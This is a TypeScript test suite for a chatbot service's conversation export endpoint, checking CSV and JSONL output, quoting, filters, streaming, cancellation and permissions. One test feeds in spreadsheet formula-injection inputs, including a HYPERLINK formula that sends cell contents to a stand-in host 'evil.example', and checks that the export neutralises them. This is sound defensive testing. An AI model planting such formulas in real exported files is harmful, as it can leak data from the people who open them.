import assert from 'node:assert/strict'
import { once } from 'node:events'
import { get, type IncomingMessage } from 'node:http'
import { suite, test } from 'node:test'
import { setTimeout as sleep } from 'node:timers/promises'
import {
  type Client,
  scriptedModel,
  startTestServer,
  type TestServer,
} from '../../../test/harness.ts'
import { watchAnalytics } from '../../../test/watch-analytics.ts'
import { newId } from '../../database/rows/ids.ts'

const COLUMNS =
  'session_uuid,uuid,created_at,channel,question,answer,finish_reason,error_message,answered,confidence,rating,comment,model,prompt_tokens,completion_tokens,sources'

const pathOf = (chatbot: string) => `/chatbot/${chatbot}/conversations/export`

function fetchFile(owner: Client, chatbot: string, query = ''): Promise<Response> {
  return owner.send('GET', `${pathOf(chatbot)}?${query}`)
}

async function readLines(owner: Client, chatbot: string, query = '') {
  const response = await fetchFile(owner, chatbot, `format=jsonl&${query}`)
  assert.equal(response.status, 200)
  const text = await response.text()
  assert.ok(text === '' || text.endsWith('\n'))
  return text
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line))
}

/** Parses a table strictly by RFC 4180: its end, its line breaks and its quotes. */
function readTable(text: string): string[][] {
  const rows: string[][] = [[]]
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex
    const found = cell.exec(text)
    assert.ok(found, `no cell at ${at}: ${JSON.stringify(text.slice(at, at + 40))}`)
    rows.at(-1)!.push(found[1]?.replaceAll('""', '"') ?? found[2]!)
    if (found[3] !== ',') rows.push([])
  }
  assert.deepEqual(rows.pop(), [])
  return rows
}

/** Inserts conversations with the same questions. Returns their sessions and messages, oldest first. */
async function insertConversations(
  { services: { db } }: TestServer,
  chatbot: string,
  count: number,
  questions: string[],
): Promise<{ sessions: string[]; messages: string[] }> {
  const now = { created_at: Date.now(), modified_at: Date.now() }
  const sessions = Array.from({ length: count }, () => ({
    id: newId(),
    chatbot_id: chatbot,
    ...now,
  }))
  const messages = sessions.flatMap(({ id }) =>
    questions.map((query) => ({
      id: newId(),
      session_id: id,
      query,
      response: 'Yes.',
      finish_reason: 'stop' as const,
      ...now,
    })),
  )
  for (let at = 0; at < sessions.length; at += 500)
    await db
      .insertInto('sessions')
      .values(sessions.slice(at, at + 500))
      .execute()
  for (let at = 0; at < messages.length; at += 500)
    await db
      .insertInto('messages')
      .values(messages.slice(at, at + 500))
      .execute()
  return { sessions: sessions.map(({ id }) => id), messages: messages.map(({ id }) => id) }
}

suite('conversations as a file', () => {
  test('have a row for each message, with all that is known of it', async (t) => {
    const { owner } = await startTestServer(t)
    const chatbot = await owner.createChatbot({ name: 'Größe & "Maß"\r\n', show_citations: true })
    await owner.createPair(chatbot, 'What does a ticket cost?', 'A ticket costs 12 euros.')
    const session = await owner.createSession(chatbot)
    await (await owner.ask(session, 'What does a ticket cost?')).text()
    const [message] = await owner.messages(session)
    const feedback = { rating: 'down', comment: 'Now 14, "sadly",\nsince May 🦁' }
    await owner.json('POST', `/message/${message.uuid}/feedback`, feedback)
    const meta = JSON.parse(message.meta_json)

    const [line, ...others] = await readLines(owner, chatbot)
    assert.deepEqual(others, [])
    assert.deepEqual(line, {
      session_uuid: session,
      uuid: message.uuid,
      created_at: message.created_at,
      channel: 'api',
      question: 'What does a ticket cost?',
      answer: message.response,
      finish_reason: 'stop',
      error_message: '',
      answered: true,
      confidence: meta.confidence,
      ...feedback,
      model: 'docent-quote',
      prompt_tokens: meta.actual_token_distribution.prompt_tokens,
      completion_tokens: meta.actual_token_distribution.completion_tokens,
      sources: [{ title: 'What does a ticket cost?', url: null }],
    })

    const response = await fetchFile(owner, chatbot)
    assert.match(response.headers.get('content-type')!, /^text\/csv; charset=utf-8/)
    const day = new Date().toISOString().slice(0, 10)
    const name = `conversations-gro-e-ma-${day}.csv`
    assert.equal(response.headers.get('content-disposition'), `attachment; filename="${name}"`)
    const bytes = Buffer.from(await response.arrayBuffer())
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'the mark of UTF-8')
    const [head, row, ...more] = readTable(bytes.subarray(3).toString())
    assert.deepEqual(head, COLUMNS.split(','))
    assert.deepEqual(more, [])
    assert.deepEqual(
      row,
      Object.entries(line).map(([column, value]) =>
        column === 'sources' ? 'What does a ticket cost?' : String(value),
      ),
    )
  })

  test('keep commas, quotes, line breaks and emoji, and have no cell that is calculated', async (t) => {
    const server = await startTestServer(t)
    const { owner } = server
    const chatbot = await owner.createChatbot()
    const plain = [
      'a, b',
      'He said "no"',
      'two\nlines\r\nand more',
      'لماذا 👩‍👩‍👧 中文',
      '1-1',
      "'=1",
      'a list:\n- one; - two',
    ]
    const calculated = [
      ['=HYPERLINK("https://evil.example?"&A1,"x")', `'=HYPERLINK("https://evil.example?"&A1,"x")`],
      ['+1', "'+1"],
      ['-1', "'-1"],
      ['@SUM(1)', "'@SUM(1)"],
      ['\tx', "'\tx"],
      ['\r=1', "'\r'=1"],
      ['＝1', "'＝1"],
      [' =1', "' =1"],
      ['\u200b=1', "'\u200b=1"],
      ['\ufeff\u00ad @SUM(1)', "'\ufeff\u00ad @SUM(1)"],
      ['\u001f\u3164−1', "'\u001f\u3164−1"],
      ['hello;\u200b=1', "hello;'\u200b=1"],
      ['hello\n\u2060-1', "hello\n'\u2060-1"],
      // In locales with decimal commas, semicolons separate the cells and quotes inside a row mean nothing.
      ['hello;=1+1;', "hello;'=1+1;"],
      ['hello\n=1\r\n-1', "hello\n'=1\r\n'-1"],
    ] as const
    const questions = [...plain, ...calculated.map(([question]) => question)]
    await insertConversations(server, chatbot, 1, questions)
    const text = await (await fetchFile(owner, chatbot)).text()
    const said = readTable(text)
      .slice(1)
      .map((row) => row[4])
    assert.deepEqual(said, [...plain, ...calculated.map(([, harmless]) => harmless)])
    const lines = await readLines(owner, chatbot)
    assert.deepEqual(
      lines.map(({ question }) => question),
      questions,
      'JSON is as it was',
    )
  })

  test('have no cell that is calculated, whatever stands before a sign and however it is written', async (t) => {
    const server = await startTestServer(t)
    const chatbot = await server.owner.createChatbot()
    const all = Array.from({ length: 0x11_0000 - 1 }, (_, i) => i + 1)
      .filter((code) => code < 0xd800 || code > 0xdfff)
      .map((code) => String.fromCodePoint(code))
    const signs = all.filter((one) => /^[=+\-@]/.test(one.normalize('NFKC')))
    const skipped = all.filter((one) =>
      /^[\p{Cc}\p{Cf}\p{Z}\p{Default_Ignorable_Code_Point}]$/u.test(one),
    )
    // Every character appears in some question, in an order that repeats.
    const pick = (list: string[], i: number) => list[(i * 7_919) % list.length]!
    const questions = Array.from({ length: 400 }, (_, i) => {
      const before = Array.from({ length: 1 + (i % 12) }, (_, j) => pick(skipped, i * 12 + j)).join(
        '',
      )
      const between = ['', 'a;', 'a\n', 'a\r\n', 'a\t'][i % 5]
      return `${between}${before}${pick(signs, i)}1+1`
    })
    await insertConversations(server, chatbot, 1, questions)
    const text = await (await fetchFile(server.owner, chatbot)).text()
    const said = readTable(text)
      .slice(1)
      .map((row) => row[4]!)
    assert.equal(said.length, questions.length)
    for (const cell of said) {
      for (const part of cell.split(/[;\t\r\n]/)) {
        const shown = part
          .replaceAll(/[\p{C}\p{Z}\p{Default_Ignorable_Code_Point}]/gu, '')
          .normalize('NFKC')
        assert.doesNotMatch(shown, /^[=+\-@]/, JSON.stringify(cell))
      }
    }
  })

  test('are those that the list has with the same filters, whole', async (t) => {
    const script = scriptedModel()
    const { owner, services } = await startTestServer(t, { models: [script.model] })
    const chatbot = await owner.createChatbot()
    await owner.json('POST', `/chatbot/${chatbot}/update`, { visibility: 'public' })
    const hold = async (...questions: string[]) => {
      const session = await owner.createSession(chatbot)
      for (const question of questions) {
        script.say('Yes.')
        script.finish()
        await (await owner.ask(session, question)).text()
      }
      return session
    }
    const lions = await hold('Lions?', 'Bears?')
    const tigers = await hold('Tigers?')
    await owner.createSession(chatbot)
    const visited = await hold('Wolves?')
    await services.db
      .insertInto('visitors')
      .values({ session_id: visited, hash: 'x', channel: 'widget' })
      .execute()
    const past = Date.parse('2026-03-10T12:00:00Z')
    await services.db
      .updateTable('sessions')
      .set({ created_at: past, modified_at: past })
      .where('id', '=', tigers)
      .execute()
    const [rated] = await owner.messages(tigers)
    await owner.json('POST', `/message/${rated.uuid}/feedback`, { rating: 'up' })
    const asked = async (query: string) =>
      (await readLines(owner, chatbot, query)).map(({ question }) => question)
    assert.deepEqual(await asked(''), ['Wolves?', 'Tigers?', 'Lions?', 'Bears?'])
    assert.deepEqual(await asked('search=BEARS'), ['Lions?', 'Bears?'])
    assert.deepEqual(await asked('channel=widget'), ['Wolves?'])
    assert.deepEqual(await asked('rating=up'), ['Tigers?'])
    assert.deepEqual(await asked('to=2026-03-11'), ['Tigers?'])
    assert.deepEqual(await asked('from=2026-03-11'), ['Wolves?', 'Lions?', 'Bears?'])
    assert.deepEqual(await asked('search=zebras'), [])
    const sessions = (await readLines(owner, chatbot)).map(({ session_uuid }) => session_uuid)
    assert.deepEqual(sessions, [visited, tigers, lions, lions])
    const [wolves] = await readLines(owner, chatbot, 'channel=widget')
    assert.equal(wolves.channel, 'widget')
    const empty = await (await fetchFile(owner, chatbot, 'search=zebras')).text()
    assert.equal(empty, `${COLUMNS}\r\n`)
  })

  test('have every message once, in long conversations and many', async (t) => {
    const server = await startTestServer(t)
    const { owner } = server
    const chatbot = await owner.createChatbot()
    const long = await insertConversations(
      server,
      chatbot,
      1,
      Array.from({ length: 350 }, (_, n) => `Lion ${n}?`),
    )
    const many = await insertConversations(server, chatbot, 720, ['Bears?', 'Wolves?', 'Lions?'])
    const other = await owner.createChatbot()
    await insertConversations(server, other, 3, ['Lions?'])
    const lines = await readLines(owner, chatbot)
    const expected = many.sessions
      .map((_, n) => many.messages.slice(n * 3, n * 3 + 3))
      .toReversed()
      .flat()
    assert.deepEqual(
      lines.map(({ uuid }) => uuid),
      [...expected, ...long.messages],
    )
    const found = await readLines(owner, chatbot, 'search=lion+349')
    assert.deepEqual(
      found.map(({ uuid }) => uuid),
      long.messages,
      'behind 500 that were looked through',
    )
  })

  test('are read part by part: what comes or goes meanwhile does no harm', async (t) => {
    const server = await startTestServer(t)
    const { owner, services } = server
    const chatbot = await owner.createChatbot()
    const { sessions, messages } = await insertConversations(server, chatbot, 600, [
      'x'.repeat(32_000),
    ])
    const paused = await startReading(server, chatbot)
    await insertConversations(server, chatbot, 5, ['New?'])
    await services.db.deleteFrom('sessions').where('id', 'in', sessions.slice(0, 100)).execute()
    await owner.json('POST', `/session/${sessions[100]}/delete`)
    const rest = (await paused.readOn()).split('\n').slice(0, -1)
    const uuids = rest.map((line) => JSON.parse(line).uuid)
    assert.deepEqual(uuids, messages.slice(101).toReversed())
  })

  test('are cut off where not all of them could be read', async (t) => {
    const server = await startTestServer(t)
    const { owner, tokenFor } = server
    const long = 'x'.repeat(32_000)
    const chatbot = await owner.createChatbot()
    await insertConversations(server, chatbot, 600, [long])
    const deleted = await startReading(server, chatbot)
    assert.equal((await owner.json('DELETE', `/chatbot/${chatbot}/delete`)).status, 200)
    await assert.rejects(deleted.readOn(), /aborted|socket/)

    const other = await owner.createChatbot()
    await insertConversations(server, other, 600, [long])
    const { id, token } = await tokenFor('owner', { scopes: ['read'] })
    const revoked = await startReading(server, other, token)
    await server.services.db
      .updateTable('tokens')
      .set({ revoked_at: Date.now() })
      .where('id', '=', id)
      .execute()
    await sleep(6_000)
    await assert.rejects(revoked.readOn(), /aborted|socket/)
  })

  test('are read no further for a reader who has left', async (t) => {
    const server = await startTestServer(t)
    const { owner, services } = server
    const chatbot = await owner.createChatbot()
    await insertConversations(server, chatbot, 600, ['x'.repeat(32_000)])
    let queries = 0
    watchAnalytics(services.analytics, () => {
      queries += 1
    })
    const paused = await startReading(server, chatbot)
    const before = queries
    assert.ok(before > 0)
    paused.leave()
    await sleep(500)
    assert.ok(queries <= before + 1, `${queries - before} more`)
  })

  test('are for their owner, with the scope to read, in a format that there is', async (t) => {
    const { owner, stranger, tokenFor } = await startTestServer(t)
    const chatbot = await owner.createChatbot()
    assert.equal((await fetchFile(stranger, chatbot)).status, 404)
    assert.equal((await fetchFile(owner, newId())).status, 404)
    const { token } = await tokenFor('owner', { scopes: ['chat'] })
    const path = owner.base + pathOf(chatbot)
    const headers = { authorization: `Bearer ${token}` }
    assert.equal((await fetch(path, { headers })).status, 403)
    assert.equal((await fetch(path)).status, 401)
    for (const [field, value] of [
      ['format', 'xlsx'],
      ['from', '2026-02-30'],
      ['to', 'tomorrow'],
      ['channel', 'mail'],
      ['rating', 'good'],
    ]) {
      const refused = await owner.json('GET', `${pathOf(chatbot)}?${field}=${value}`)
      assert.equal(refused.status, 422, field)
      assert.equal(refused.headers.get('content-disposition'), null)
      assert.deepEqual(refused.body.details[0].loc, ['querystring', field])
    }
    const asked = await owner.send('HEAD', pathOf(chatbot))
    assert.equal(asked.status, 200)
    assert.match(asked.headers.get('content-type')!, /^text\/csv/)
  })
})

/** Reads the beginning and then stops until `readOn` is called. */
async function startReading(
  { owner }: TestServer,
  chatbot: string,
  token = owner.token,
): Promise<{ readOn: () => Promise<string>; leave: () => void }> {
  const request = get(`${owner.base}${pathOf(chatbot)}?format=jsonl`, {
    headers: { authorization: `Bearer ${token}` },
  })
  const [response] = (await once(request, 'response')) as [IncomingMessage]
  assert.equal(response.statusCode, 200)
  // Wait until the buffers of the connection are full.
  await sleep(300)
  return {
    readOn: async () => {
      let text = ''
      for await (const piece of response.setEncoding('utf8')) text += piece
      return text
    },
    leave: () => void request.destroy(),
  }
}
